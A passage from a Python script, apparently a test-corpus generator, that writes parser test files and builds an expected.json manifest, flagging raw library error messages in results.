# the observed outcome with our own stable prefix as the reason, and is marked predicted (message to be rewritten).
RAW_FRAGMENTS = ["Expected Number of Columns", "Value with unterminated quote", "is an invalid start of",
                 "Expected depth to be zero", "maximum configured depth", "Expected end of string",
                 "Expected start of a property name", "reached end of data", "invalid end of", "Expected a value"]


def write_files():
    keep = {"make_corpus.py", "expected.json", "README.md"}
    for folder in {c["file"].split("/")[0] for c in CASES}:
        d = os.path.join(HERE, folder)
        if os.path.isdir(d):
            for root, _, files in os.walk(d):
                for f in files:
                    os.remove(os.path.join(root, f))
    os.makedirs(os.path.join(HERE, "generic"), exist_ok=True)
    with open(os.path.join(HERE, "generic", "helpdesk.yaml"), "wb") as f:
        f.write(U8(HELPDESK_YAML))
    total = 0
    for c in CASES:
        p = os.path.join(HERE, c["file"])
        os.makedirs(os.path.dirname(p), exist_ok=True)
        with open(p, "wb") as f:
            f.write(c["data"])
        total += len(c["data"])
    assert total < 3 * 1024 * 1024, total
    return total


def manifest(results_dir):
    out = []
    for c in CASES:
        e = {"file": c["file"], "why": c["why"]}
        for k in ("timezone", "source", "mapping"):
            if c.get(k):
                e[k] = c[k]
        pred = c.get("predict") or PREDICT.get(c["file"])
        if pred:
            e.update(pred)
            e["predicted"] = True
            out.append(e)
            continue
        res = json.load(open(os.path.join(results_dir, c["file"].replace("/", "__") + ".result.json")))
        exp = dict(res["expected"])
        msg = exp.pop("_message", "")
        assert exp, c["file"]
        e.update(exp)
        if c["file"].startswith("timestamps/") and isinstance(res.get("stored"), list):
            e["stored"] = [{k: r[k] for k in ("external_id", "created_at", "acknowledged_at", "resolved_at")}
                           for r in sorted(res["stored"], key=lambda r: r["external_id"])]
        if any(f in msg for f in RAW_FRAGMENTS):
            e["predicted"] = True
            e["snapshot"] = "raw library text in the message: " + msg
        out.append(e)
    with open(os.path.join(HERE, "expected.json"), "w", encoding="utf-8") as f:
        json.dump(out, f, ensure_ascii=False, indent=1)
        f.write("\n")


if __name__ == "__main__":
    build_all()
    if "--list" in sys.argv:
        for c in CASES:
            print("|".join([c["file"], c.get("timezone") or "", c.get("source") or "", c.get("mapping") or "",
                             "" if c["rows"] is None else str(c["rows"])]))
    elif "--manifest" in sys.argv:
        manifest(sys.argv[sys.argv.index("--manifest") + 1])
    else:
        n = write_files()
        print(f"{len(CASES)} files, {n} bytes")
